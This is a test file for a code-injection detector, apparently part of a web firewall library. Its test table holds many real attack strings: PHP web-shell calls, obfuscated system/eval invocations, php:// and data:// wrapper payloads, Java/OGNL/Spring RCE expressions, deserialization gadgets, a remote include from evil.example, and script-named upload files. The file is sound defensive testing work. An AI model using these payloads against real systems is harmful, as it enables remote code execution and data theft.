import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isThreat } from '../../src/core/taxonomy.js';
import { codeInjectionDetector, mayBeCode } from '../../src/detect/code-injection/index.js';
import type { ContentProfile, InspectedValue, Paranoia } from '../../src/detect/types.js';
import { GATE_TAILS, PHP_CORE_NAMES } from '../../src/detect/code-injection/php-names.js';
import { expectPrefilterSound } from './helpers.js';

const THRESHOLD = { 1: 0.7, 2: 0.5, 3: 0.3 } as const;
const b64 = (text: string): string => Buffer.from(text, 'latin1').toString('base64');

interface Row {
  input: string;
  expect: boolean;
  paranoia?: Paranoia;
  profile?: ContentProfile;
  location?: string;
  note?: string;
}

function fired(row: Omit<Row, 'expect'>): boolean {
  const paranoia = row.paranoia ?? 1;
  const input: InspectedValue = {
    value: row.input,
    location: row.location ?? 'query.q',
    source: 'query',
    profile: row.profile ?? 'generic',
  };
  return codeInjectionDetector
    .compile({ paranoia })(input)
    .some((f) => f.score >= THRESHOLD[paranoia]);
}

const ROWS: Row[] = [
  // PHP open tags followed by code
  { input: '<?php echo shell_exec($_REQUEST["c"]); ?>', expect: true },
  { input: '<?php\n$a = 1;', expect: true },
  { input: '<?= $secret ?>', expect: true },
  { input: '<?=42?>', expect: true },
  { input: '<? passthru("uname -a"); ?>', expect: true },
  { input: '<? php print "hi"', expect: true },
  { input: 'x[php]echo 1;[/php]', expect: true },
  { input: '<?php', expect: false, note: 'an opener alone runs nothing' },
  { input: '<?php', expect: false, paranoia: 3 },
  { input: 'data://text/plain;base64,SGVsbG8gd29ybGQ=', expect: false, paranoia: 3 },
  { input: '<?xml version="1.0" encoding="UTF-8"?><a/>', expect: false },
  { input: 'a <? b', expect: false },
  // `<?xml` read as a short open tag: a goto label `xml:` or a call `xml()`, then code
  { input: '<?xml :echo 1;', expect: true, note: 'goto label, then a statement' },
  { input: '<?xml\t: system("id");', expect: true },
  { input: '<?xml   ();echo 1;', expect: true, note: 'a call of xml()' },
  { input: '<?xml version="1.0"?><r/>', expect: false },
  { input: '<?xml-stylesheet type="text/xsl" href="a.xsl"?>', expect: false },
  { input: '<?xml:namespace prefix="t" ns="urn:x">', expect: false, note: 'IE markup, xss reports it' },
  { input: 'test<?', expect: false, note: 'an opener alone runs nothing' },
  // calls of dangerous functions, with the evasions PHP allows before the `(`
  { input: 'passthru("cat /etc/hosts")', expect: true },
  { input: 'eval($payload);', expect: true },
  { input: 'assert(base64_decode("ZWNobyAx"))', expect: true },
  { input: 'system /* x */ ("id")', expect: true },
  { input: 'exec #note\n ("id")', expect: true },
  { input: 'exec\t(listing)', expect: true },
  { input: 'phpinfo()', expect: true },
  { input: 'get_defined_functions()[1]', expect: true },
  { input: 'file_put_contents("s.php", $body)', expect: true },
  { input: 'posix_getpwnam("root")', expect: true },
  { input: "preg_replace('/.*/e', 'system(\"id\")', '')", expect: true },
  { input: "include('http://evil.example/sh.txt');", expect: true },
  { input: 'require_once $_GET["page"];', expect: true },
  { input: 'chr(115).chr(121).chr(115).chr(116).chr(101).chr(109)', expect: true },
  { input: 'chr(65)', expect: false },
  { input: 'chr(65)', expect: true, paranoia: 2 },
  // names hidden from a scan
  { input: '(sy.(st).em)("whoami")', expect: true },
  { input: '"sys"."tem"("whoami");', expect: true },
  { input: "$f = 'pass' . 'thru'; $f('id');", expect: true },
  { input: '[system][0](id)', expect: true },
  { input: '(/* c */ shell_exec)(ls)', expect: true },
  // variable functions and superglobals
  { input: '$_GET[a]($_GET[b])', expect: true },
  { input: '@$_POST["x"]($_POST["y"]);', expect: true },
  { input: '$fn(1)', expect: true },
  { input: '$$name ("x")', expect: true },
  { input: "${'a'.'b'}", expect: true },
  { input: '${@eval($_POST[1])}', expect: true },
  { input: "$_COOKIE['session_hook']", expect: true },
  { input: '$__[$_[1]](7)', expect: true, note: 'nested offsets' },
  { input: '$f /* a */ [1] // b\n [2] # c\n (3)', expect: true, note: 'comments between offsets' },
  { input: 'echo 1;{/php}', expect: true },
  { input: '$a[]()', expect: false },
  { input: '${}()', expect: false },
  { input: '$x#y()', expect: false, note: 'the rest of the line is a comment' },
  // stream wrappers
  { input: 'php://filter/convert.base64-encode/resource=index.php', expect: true },
  { input: 'php://input', expect: true },
  { input: 'phar://uploads/avatar.jpg/x', expect: true },
  { input: 'expect://id', expect: true },
  { input: 'compress.zlib://php://input', expect: true },
  { input: 'zip://uploads/a.zip#shell.php', expect: true },
  { input: 'data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+', expect: true },
  { input: 'data://text/plain,<?php phpinfo();?>', expect: true },
  { input: 'data://text/plain;base64,SGVsbG8gd29ybGQ=', expect: false },
  { input: 'lz4://some/file', expect: false },
  // ini directives set from a request
  { input: '-d allow_url_include=1 -d auto_prepend_file=php://input', expect: true },
  { input: 'auto_prepend_file = /tmp/x', expect: true },
  { input: 'extension_dir=/var/www/uploads', expect: true, note: 'then extension= loads an upload' },
  { input: '-d include_path=/tmp -d error_log=/var/www/x.php', expect: true },
  { input: 'the extension_dir setting tells PHP where modules live', expect: false },
  { input: 'phone extension=204', expect: false },
  // serialized objects
  { input: 'O:8:"stdClass":1:{s:1:"a";i:1;}', expect: true },
  { input: 'a:1:{i:0;O:+4:"User":1:{s:4:"role";s:5:"admin";}}', expect: true },
  { input: '_|O:9:"Some\\Class":0:{}', expect: true },
  { input: 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==', expect: true },
  { input: 'payload=aced00057372001', expect: true },
  { input: 'aced0005-9c1e-4f3a-8b2d-0123456789ab', expect: false, note: 'a UUID' },
  { input: '\u00ac\u00ed\u0000\u0005sr\u0000', expect: true },
  { input: 'gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==', expect: true },
  { input: "cos\nsystem\n(S'id'\ntR.", expect: true },
  { input: '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}', expect: true },
  { input: '!!python/object/apply:os.system ["id"]', expect: true },
  {
    input: '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x"]]]]',
    expect: true,
  },
  { input: 'AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0u', expect: true },
  // Java, expression languages, OGNL, Spring
  { input: 'java.lang.Runtime', expect: true },
  { input: 'javax.script.ScriptEngineManager', expect: true },
  { input: 'java.lang.reflect.Method', expect: true },
  { input: 'java.io.FileInputStream', expect: true },
  { input: 'org.apache.commons.collections.functors.InvokerTransformer', expect: true },
  { input: '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x/y"}', expect: true },
  { input: 'T(java.lang.Runtime).getRuntime().exec("id")', expect: true },
  { input: 'T(org.springframework.util.StreamUtils)', expect: true },
  { input: "''.getClass().forName('java.lang.Runtime')", expect: true },
  { input: 'Runtime.getRuntime().exec(cmd)', expect: true },
  { input: 'new ProcessBuilder("id").start()', expect: true },
  { input: "%{(#_memberAccess['allowStaticMethodAccess']=true)}", expect: true },
  { input: '%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd="id")}', expect: true },
  { input: "#context['xwork.MethodAccessor.denyMethodExecution']=false", expect: true },
  { input: '@java.lang.Runtime@getRuntime().exec("id")', expect: true },
  { input: '"id".execute().text', expect: true },
  { input: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern', expect: true },
  { input: "class['classLoader'].resources", expect: true },
  {
    input: 'new org.springframework.context.support.FileSystemXmlApplicationContext("http://x/b.xml")',
    expect: true,
  },
  // Java class names inside base64, at every byte offset (a stream with its header cut off or
  // embedded after other bytes); gadget classes at PL1, process classes from PL2
  { input: 'InvokerTransformer', expect: true, note: 'a gadget class named alone' },
  ...[0, 1, 2].map((pad) => ({
    input: b64(
      `${'x'.repeat(pad)}\u0000\u0003sr\u0000:org.apache.commons.collections.functors.InvokerTransformer\u0087`,
    ),
    expect: true,
    note: `gadget name at offset ${pad} of a binary stream`,
  })),
  { input: b64('..chainedtransformer..').slice(3), expect: true, note: 'a fragment, lower case' },
  { input: b64('\u0001java/lang/ProcessBuilder\u0002'), expect: false },
  { input: b64('\u0001java/lang/ProcessBuilder\u0002'), expect: true, paranoia: 2 },
  { input: b64('\u0000runtime'), expect: true, paranoia: 2 },
  { input: 'KztAAXNyABdqYXZhLnV0aWwu', expect: false, note: 'not the shifted magic' },
  { input: 'KztAAUc3IAF2phdmEudXRpbC5Qcmlvcml0eVF1ZXVl', expect: true, note: 'magic at offset 1' },
  { input: b64('{"runtime":"nodejs20.x","handler":"index.handler"}'), expect: false },
  { input: 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJydW50aW1lIn0.c2lnbmF0dXJl', expect: false },
  {
    input: 'dGhlIHJ1bnRpbWUgb2YgdGhlIGZpbG0gaXMgMiBob3Vycw==',
    expect: false,
    note: 'prose about a film runtime',
  },
  // PHP-only built-ins (PL2): extension namespaces, unprefixed file/packing functions; a comment
  // before the `(` (evasion) makes one PL1
  { input: 'array_diff (', expect: false },
  { input: 'array_diff (', expect: true, paranoia: 2 },
  { input: 'ldap_get_entries()', expect: true, paranoia: 2 },
  { input: 'sodium_crypto_aead_chacha20poly1305_ietf_keygen (', expect: true, paranoia: 2 },
  { input: 'unPACK($x)', expect: false },
  { input: 'unpack($x)', expect: true, paranoia: 2 },
  { input: 'FILE\r\n()', expect: true, paranoia: 2 },
  { input: 'symlink/*x*/()', expect: true },
  { input: 'readfile #c\n ("/etc/hosts")', expect: true },
  { input: 'the file (see attached)', expect: false, paranoia: 2 },
  { input: 'glob (pattern) matching', expect: false, paranoia: 2 },
  { input: 'name.substr(1)', expect: false, paranoia: 2, note: 'a method: JavaScript' },
  { input: '$obj->file()', expect: false, paranoia: 2 },
  { input: 'my_array_diff(x)', expect: false, paranoia: 2 },
  { input: 'select array_agg(name) from t', expect: false, paranoia: 2, note: 'PostgreSQL' },
  { input: 'select pg_sleep(1)', expect: false, paranoia: 2, note: 'PostgreSQL, the sqli detector' },
  { input: 'DATE_ADD(now(), INTERVAL 1 DAY)', expect: false, paranoia: 2 },
  { input: 'opcache.jit_buffer_size=64M', expect: false },
  { input: 'opcache.jit_buffer_size=64M', expect: true, paranoia: 2 },
  { input: 'mbstring.regex_retry_limit =1', expect: true, paranoia: 2 },
  { input: 'see opcache.md for details', expect: false, paranoia: 2 },
  // Node.js and Python
  { input: "require('child_process').exec('id')", expect: true },
  { input: 'process.mainModule.require("fs")', expect: true },
  { input: "[].constructor.constructor('return process')()", expect: true },
  { input: "__import__('os').system('id')", expect: true },
  { input: 'subprocess.check_output(["id"])', expect: true },
  { input: '().__class__.__bases__[0].__subclasses__()', expect: true },
  // uploads named as server scripts (filename locations only)
  { input: 'shell.php', expect: true, location: 'body.file.filename' },
  { input: 'cmd.jspx..', expect: true, location: 'header.x-filename' },
  { input: 'a.phtml', expect: true, location: 'header.x-file-name' },
  { input: 'dir/x.php907 ', expect: true, location: 'header.x_filename' },
  { input: '.htaccess', expect: true, location: 'body.upload.filename' },
  {
    input: 'sess_q7w8e9r0t1y2u3i4o5p6',
    expect: true,
    location: 'header.x-filename',
    note: 'regression: the old prefilter skipped names without a dot',
  },
  { input: 'avatar.php.png', expect: false, location: 'body.file.filename' },
  { input: 'avatar.php.png', expect: true, paranoia: 2, location: 'body.file.filename' },
  { input: 'report.pdf', expect: false, location: 'body.file.filename' },
  { input: 'index.php', expect: false, note: 'a page name in an ordinary parameter' },
  // a name in a JSON or form field is metadata (presigned uploads, file managers): PL2
  { input: 'x.shtml', expect: false, location: 'body.$.fileName' },
  { input: 'x.shtml', expect: true, paranoia: 2, location: 'body.$.fileName' },
  { input: 'shell.php', expect: false, location: 'body.fileName' },
  { input: 'shell.php', expect: true, paranoia: 2, location: 'query.file_name' },
  { input: 'C:\\temp\\sess_q7w8e9r0t1y2u3i4o5p6', expect: true, location: 'header.x-file-name' },
  // benign values
  { input: 'richard.php@example.com', expect: false },
  { input: 'The system(s) you manage', expect: false },
  { input: 'ecosystem() and executor()', expect: false },
  { input: 'the files (yep)', expect: false },
  { input: 'phpinfo can leak configuration details', expect: false },
  { input: 'Price: $5 (approx.)', expect: false },
  { input: "$('#menu').toggle()", expect: false },
  { input: 'see java.com or download Main.java', expect: false },
  { input: 'java.io.tmpdir', expect: false },
  {
    input:
      'java.lang.IllegalStateException: boom\n\tat com.acme.App.run(App.java:12)\n\tat java.base/jdk.internal.reflect.NativeMethodAccessorImpl.invoke(Native Method)\n\tat java.base/java.lang.reflect.Method.invoke(Method.java:566)',
    expect: false,
    note: 'a crash report',
  },
  { input: 'www.example.com/runtime/status', expect: false },
  { input: 'search (foo)bar or foo(bar) or [foo]bar', expect: false },
  { input: 'this is a "dog" (not a cat)', expect: false },
  { input: 'Total: ${amount}', expect: false },
  { input: 'https://example.com/a?b=c#d', expect: false },
  { input: 'rO0ABsomething', expect: true, note: 'only a base64 stream starts so' },
  { input: 'xrO0AB', expect: false, note: 'mid-token: not a stream start' },
  { input: '<?php system("id"); ?>', expect: true, profile: 'markup' },
  { input: 'java.lang.String', expect: false, profile: 'markup' },
  { input: 'eval($x)', expect: false, profile: 'code' },
];

describe('code-injection detector', () => {
  it.each(ROWS)('$input → $expect (PL $paranoia, $location)', (row) => {
    expect(fired(row)).toBe(row.expect);
  });

  it('reports the taxonomy ids, fragment and location', () => {
    const [f] = codeInjectionDetector.compile({ paranoia: 1 })({
      value: 'x=1; passthru("id")',
      location: 'query.q',
      source: 'query',
      profile: 'generic',
    });
    expect(f).toMatchObject({
      category: 'injection',
      subtype: 'code-injection',
      detector: 'code-injection',
      location: 'query.q',
      fragment: 'passthru("id")',
      severity: 'high',
    });
  });

  it('never throws and always returns well-formed findings (fuzz)', () => {
    const pieces = [
      '<?php ',
      '<?=',
      '$',
      '$_GET',
      '[',
      ']',
      '{',
      '}',
      '(',
      ')',
      '/*',
      '*/',
      '#',
      '\n',
      "'",
      '"',
      '.',
      'system',
      'chr(65)',
      'php://',
      'O:3:"abc":1:{',
      'java.lang.',
      'Runtime',
      'T(',
      '@',
      'rO0AB',
      '!!',
      'class.',
      ' ',
      'a',
    ];
    const arb = fc.oneof(
      fc.string({ maxLength: 200 }),
      fc.array(fc.constantFrom(...pieces), { maxLength: 60 }).map((a) => a.join('')),
    );
    fc.assert(
      fc.property(arb, fc.constantFrom<Paranoia>(1, 2, 3), fc.boolean(), (value, paranoia, file) => {
        for (const f of codeInjectionDetector.compile({ paranoia })({
          value,
          location: file ? 'body.f.filename' : 'x',
          source: 'body',
          profile: 'generic',
        })) {
          expect(isThreat(f.category, f.subtype)).toBe(true);
          expect(f.score).toBeGreaterThanOrEqual(0.5);
          expect(f.score).toBeLessThanOrEqual(1);
          expect((f.fragment ?? '').length).toBeLessThanOrEqual(120);
          expect(f.location).toBe(file ? 'body.f.filename' : 'x');
        }
      }),
      { numRuns: 500 },
    );
  });

  it('stays linear on 1 MB of repeated near-matches', () => {
    const run = codeInjectionDetector.compile({ paranoia: 3 });
    const units = [
      'system/*',
      'exec #',
      '${',
      '$a[',
      '$$$$',
      "'a'.",
      ')(',
      '*/(',
      '<?',
      '<?xml :',
      '<?xml (',
      'chr(1).',
      'O:1:"',
      ':"',
      'java.',
      '@a.b',
      '(#a',
      'include"',
      'php://',
      'class[',
      '.execute(',
      'T(a.',
      'rO0AB',
      '!!a.',
      'require(',
      // the prefilter's own rules: look-behind / look-ahead over whitespace, anchors
      "'      .",
      '.      ',
      'system      ',
      '       (',
      '*/       (',
      'exampl',
      '@',
      'array_x',
      'array_diff ',
      'opcache.a',
      'KztAA',
      'SW52b2tlclRyYW5zZm9y',
      'aW52b2tlcnRyYW5zZm9ybWVy',
      'Aa0+',
    ];
    for (const unit of units) {
      const value = unit.repeat(Math.ceil((1024 * 1024) / unit.length));
      const input = { value, location: 'q', source: 'query', profile: 'generic' } as const;
      // best of three after a warm-up: the bound is on the algorithm, not on JIT or a busy CI host
      run(input);
      let best = Number.POSITIVE_INFINITY;
      for (let k = 0; k < 3; k++) {
        const t0 = performance.now();
        run(input);
        best = Math.min(best, performance.now() - t0);
      }
      expect(best, unit).toBeLessThan(50);
    }
  });
});

// The prefilter rejects a value before analysis only when the analysis provably finds nothing.
describe('code-injection prefilter (mayBeCode)', () => {
  it('never rejects an attack row of the table above', () => {
    const attacks = ROWS.filter((row) => row.expect);
    expect(attacks.length).toBeGreaterThan(5);
    for (const row of attacks) expect(mayBeCode(row.input), row.input).toBe(true);
  });
  it('rejects typical benign values', () => {
    for (const v of [
      'shipping',
      '482913',
      'Pat OBrien',
      "Pat O'Brien",
      'SKU-482913',
      'hello world',
      'please include the invoice (attached) before noon.',
      'https://shop.example.com/p/48213?ref=mail',
      'user482@example.com',
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
      'sid=s3cr3tSessionValue123; theme=dark',
      '{"a":1,"b":"two","c":[1,2,3]}',
    ]) {
      expect(mayBeCode(v), v).toBe(false);
    }
  });
  it('rejects only values the detector reports nothing on (any profile, source, paranoia)', () => {
    const token = fc.constantFrom(
      'system',
      'exec',
      '(',
      ')',
      '$',
      '_GET',
      '<?',
      'php',
      ' ',
      'rO0AB',
      'aced0005',
      'child_process',
      'gASV',
      'java',
      '.',
      'lang',
      'Runtime',
      'sess_',
      'a1b2c3d4e5f6g7h8i9j0k',
      '"',
      ':',
      'a',
      '1',
    );
    expectPrefilterSound(codeInjectionDetector, mayBeCode, token);
  });
  // pieces of every shape the gate reasons about: anchors with and without what must follow
  // them, the punctuation of assembled names, and the two non-ASCII letters that lower-case to
  // ASCII (U+0130, U+212A)
  const shapes = fc.constantFrom(
    'sys',
    'tem',
    'shell_',
    'exec',
    'chr',
    'eval',
    'include',
    'require',
    'php',
    'phar',
    '://',
    'data',
    'java',
    'lang',
    'Runtime',
    'class',
    'module',
    'Process',
    'Builder',
    'allow_url_include',
    'os',
    '__',
    'import',
    'T',
    'O',
    '8',
    ':"',
    "'",
    '"',
    '`',
    '(',
    ')',
    ']',
    '}',
    '[',
    '.',
    '+',
    '@',
    '#',
    '!',
    '<',
    '?',
    '=',
    '/',
    '*',
    '/*',
    '*/',
    ' ',
    '\n',
    '\t',
    '_',
    'x',
    '\u0130',
    '\u212a',
    '\u00e9',
    'array_',
    'diff',
    'opcache.',
    'jit',
    'symlink',
    'file',
    'SW52b2tlclRyYW5z',
    'Zm9ybWVy',
    'cnVudGltZQ',
    'KztAAU',
  );
  it('gates a PHP-only name by a tail that ends it (GATE_TAILS)', () => {
    for (const [name, tail] of GATE_TAILS) {
      expect(PHP_CORE_NAMES.has(name), name).toBe(true);
      expect(name.endsWith(tail) && tail.length >= 3, name).toBe(true);
      expect(mayBeCode(`x ${name} ()`), name).toBe(true);
    }
  });
  it('is sound on values built from the shapes it reasons about', () => {
    expectPrefilterSound(codeInjectionDetector, mayBeCode, shapes);
  });
  it('is sound for upload names in file-name locations', () => {
    const run = codeInjectionDetector.compile({ paranoia: 3 });
    const piece = fc.constantFrom(
      '.',
      ' ',
      '/',
      '\\',
      'shell',
      'php',
      'PHP5',
      'phtml',
      'jsp',
      'x',
      'asp',
      'asmx',
      'cfm',
      'htaccess',
      'user',
      'ini',
      'web',
      'config',
      'sess_',
      'a1b2c3d4e5f6g7h8i9j0k',
      'jpg',
      '\u0130',
    );
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 8 }), (parts) => {
        const value = parts.join('');
        if (mayBeCode(value)) return;
        const input = { value, location: 'body.file.filename', source: 'body', profile: 'generic' } as const;
        expect(run(input)).toEqual([]);
      }),
      { numRuns: 500, seed: 11 },
    );
  });
});
